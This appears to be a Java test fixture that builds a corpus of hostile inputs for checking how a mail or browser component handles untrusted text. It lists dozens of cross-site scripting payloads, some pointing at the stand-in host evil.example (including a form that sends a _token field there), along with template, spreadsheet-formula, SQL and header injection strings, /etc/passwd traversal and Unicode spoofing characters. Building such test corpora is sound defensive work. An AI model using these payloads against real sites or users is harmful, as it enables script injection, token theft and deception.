package org.mailpromoter.browser;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Texts that do harm where they are taken for more than text. */
final class Payloads {
  /** What a script would do: it cannot be missed. */
  private static final String ACT = "alert(document.domain)";

  private static final List<String> MARKUP =
      List.of(
          "<script>ACT</script>",
          "<script src=//evil.example/a.js></script>",
          "<SCRIPT/x>ACT</SCRIPT >",
          "<scr<script>ipt>ACT</scr</script>ipt>",
          "<img src=x onerror=ACT>",
          "<img src=//evil.example/pixel.gif>",
          "<img srcset='//evil.example/a 1x' onload=ACT>",
          "<svg onload=ACT>",
          "<svg><script>ACT</script></svg>",
          "<svg><a xlink:href=javascript:ACT><text>x</text></a></svg>",
          "<svg><use href=data:image/svg+xml,x#x onload=ACT></svg>",
          "<svg><animate onbegin=ACT attributeName=x dur=1s>",
          "<svg><foreignObject><iframe src=javascript:ACT>",
          "<math><mtext><table><mglyph><style><img src=x onerror=ACT>",
          "<math href=javascript:ACT>x</math>",
          "<iframe src=javascript:ACT></iframe>",
          "<iframe srcdoc='<script>parent.ACT</script>'></iframe>",
          "<iframe src=//evil.example/></iframe>",
          "<object data=javascript:ACT></object>",
          "<embed src=//evil.example/x.swf>",
          "<body onload=ACT onpageshow=ACT>",
          "<input autofocus onfocus=ACT>",
          "<details open ontoggle=ACT>x</details>",
          "<video autoplay onloadstart=ACT src=//evil.example/v.mp4></video>",
          "<audio src=x onerror=ACT>",
          "<marquee onstart=ACT>x</marquee>",
          "<form action=javascript:ACT><button>x</button></form>",
          "<form action=//evil.example/><input name=_token>",
          "<button formaction=javascript:ACT>x</button>",
          "<a href=javascript:ACT>x</a>",
          "<a href=' &#x6A;avascript:ACT'>x</a>",
          "<a href=data:text/html,<script>ACT</script>>x</a>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content='0;url=//evil.example/'>",
          "<meta http-equiv=refresh content='0;url=javascript:ACT'>",
          "<link rel=stylesheet href=//evil.example/a.css>",
          "<link rel=prefetch href=//evil.example/a>",
          "<link rel=dns-prefetch href=//evil.example>",
          "<style>@import '//evil.example/a.css';</style>",
          "<style>*{background:url(//evil.example/b)}</style>",
          "<p style='background:url(//evil.example/c);position:fixed;inset:0'>x</p>",
          "<p hx-get=//evil.example/ hx-trigger=load>x</p>",
          "<p hx-on:load=ACT hx-trigger=load>x</p>",
          "<template><script>ACT</script></template>",
          "<noscript><p title='</noscript><img src=x onerror=ACT>'>",
          "<textarea><img src=x onerror=ACT></textarea>",
          "<select><style></select><script>ACT</script>",
          "<x contenteditable onblur=ACT>x</x>",
          "<p id=main tabindex=-1 onfocus=ACT>x</p>",
          "<!--><img src=x onerror=ACT>-->");

  /** What is dangerous elsewhere, or hides what it is. */
  private static final List<String> OTHERS =
      List.of(
          "javascript:ACT",
          "JaVaScRiPt&colon;ACT",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "vbscript:msgbox(1)",
          "{{constructor.constructor('ACT')()}}",
          "${7*7}#{7*7}<%= 7*7 %>{{7*7}}@{7*7}",
          "';ACT;//",
          "\\\";ACT;//",
          "=cmd|'/C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "+1-1",
          "' OR '1'='1' --",
          "../../../../etc/passwd",
          "%0d%0aSet-Cookie: x=y",
          "\u202egnp.exe\u202c",
          "\u2066\u2067\u202d\u202e",
          "\u200b\u200d\ufeff\u00ad",
          "Z\u0351\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(20),
          "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67".repeat(50),
          "\u0000\u0001\u0007\u001b[31m\u007f\u0085",
          "\u2028\u2029",
          "A".repeat(5_000),
          "\uff1cscript\uff1eACT\uff1c/script\uff1e",
          "&lt;script&gt;ACT&lt;/script&gt;",
          "+ADw-script+AD4-ACT+ADw-/script+AD4-",
          "\u00bcscript\u00beACT\u00bc/script\u00be");

  /** What text may stand in, and how to leave it. */
  private static final List<String> WAYS_OUT =
      List.of(
          "%s",
          "\">%s",
          "'>%s",
          "\" %s \"",
          "</title>%s",
          "</textarea></select></style></script>%s",
          "--><!-- -->%s",
          "]]>%s",
          "\u202e%s",
          "\u0000%s");

  private Payloads() {}

  /** All of them, without line breaks. */
  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (String way : WAYS_OUT) {
      MARKUP.forEach(each -> all.add(way.replace("%s", each)));
    }
    return Stream.concat(all.stream(), OTHERS.stream())
        .map(each -> each.replace("ACT", ACT))
        .toList();
  }
}
